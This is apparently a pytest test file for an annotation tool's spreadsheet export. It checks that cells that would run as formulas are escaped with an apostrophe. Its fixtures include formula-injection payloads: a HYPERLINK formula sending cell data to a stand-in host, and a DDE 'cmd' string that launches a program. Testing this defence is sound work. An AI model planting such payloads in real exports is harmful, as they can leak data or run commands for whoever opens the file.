"""Exports opened in spreadsheets: text that would run as a formula is written as text."""

from __future__ import annotations

import csv
import io

import pytest

from emostudio.store import Project
from emostudio.store.agreement import agreement
from emostudio.store.export import export
from emostudio.store.spreadsheet import spreadsheet_cell, spreadsheet_record, spreadsheet_row
from tests.helpers.annotated import ANN, BOB, add_items, rate

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"open")'


@pytest.mark.parametrize(
    "text", [HYPERLINK, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1", "\r=1"]
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-0.25", "+3", "-1e-05", "plain words", "", "a=b", 0.5, -3, None]
)
def test_numbers_and_plain_text_are_written_as_they_are(value):
    assert spreadsheet_cell(value) == value


def test_rows_and_records_are_guarded_cell_by_cell():
    assert spreadsheet_row(["=1", -1, "x"]) == ["'=1", -1, "x"]
    assert spreadsheet_record({"a": "@x", "b": "-0.5"}) == {"a": "'@x", "b": "-0.5"}


def test_project_csv_and_agreement_write_a_formula_named_rater_as_text(tmp_path):
    with Project(tmp_path / "p.emostudio") as project:
        ids = add_items(project, ["neutral"] * 10)
        rate(project, ids, "bob", BOB)
        rate(project, ids, HYPERLINK, ANN)  # the latest label: the export's human label
        (table,) = export(project, tmp_path / "out", "csv")
        with table.open(newline="", encoding="utf-8") as handle:
            rows = list(csv.DictReader(handle))
        report = agreement(project)
    assert {row["human_annotator"] for row in rows} == {"'" + HYPERLINK}
    agreement_rows = list(csv.DictReader(io.StringIO(report.to_csv())))
    raters = {row["rater"] for row in agreement_rows} | {
        row["other_rater"] for row in agreement_rows
    }
    assert "'" + HYPERLINK in raters and HYPERLINK not in raters
    (kappa,) = [row["value"] for row in agreement_rows if row["measure"] == "cohen kappa"]
    assert float(kappa) > 0  # numbers stay numbers
